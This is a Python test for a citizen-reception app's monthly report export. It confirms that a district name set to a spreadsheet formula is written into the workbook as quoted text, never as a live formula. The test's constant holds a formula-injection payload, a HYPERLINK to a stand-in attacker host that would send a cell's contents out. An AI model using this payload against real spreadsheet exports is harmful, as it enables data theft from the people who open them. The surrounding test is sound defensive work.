"""The report's workbook: a name that looks like a formula (a unit's, an agency's,
typed by an administrator) is stored as text; the figures stay numbers."""

import datetime
import io
import zipfile

import openpyxl
from tiep_cong_dan.doctype.admin_unit.models import AdministrativeUnit
from tiep_cong_dan.doctype.monthly_report.models import MonthlyReport
from tiep_cong_dan.doctype.monthly_report.services import draft_monthly_report
from tiep_cong_dan.print_format.documents import DOCUMENTS
from tiep_cong_dan.print_format.service import document_file

from ..conftest import make_citizen, make_petition, old_unit
from .conftest import hear, session

FORMULA = '=HYPERLINK("http://evil.example/?x="&B4,"Xem")'


def test_names_in_the_report_workbook_are_never_formulas(role_users):
    # given a district an administrator renamed as a formula, and a hearing there
    commune = old_unit("06457")
    AdministrativeUnit.objects.filter(pk=commune.parent_id).update(name=FORMULA, short_name=FORMULA)
    petition = make_petition(
        commune,
        make_citizen(commune, "Nông Thị Hòa", "020170002312"),
        received=datetime.date(2023, 4, 3),
    )
    hear(session("periodic", datetime.date(2023, 4, 17)), petition, 1, attendance=4)
    report = draft_monthly_report(
        MonthlyReport(
            period_start=datetime.date(2023, 4, 1), period_end=datetime.date(2023, 4, 30)
        ),
        by=role_users["canbo"],
    )
    # when its workbook is written
    data = document_file(DOCUMENTS["monthly_report"], report, None, "xlsx")
    # then no sheet holds a formula: the name is quoted text, the count a number
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all("<f>" not in package.read(n).decode() for n in sheets)
    rows = list(
        openpyxl.load_workbook(io.BytesIO(data))["Theo địa bàn"].iter_rows(
            min_row=4, values_only=True
        )
    )
    assert rows[0] == (1, "'" + FORMULA, 4, 100.0)
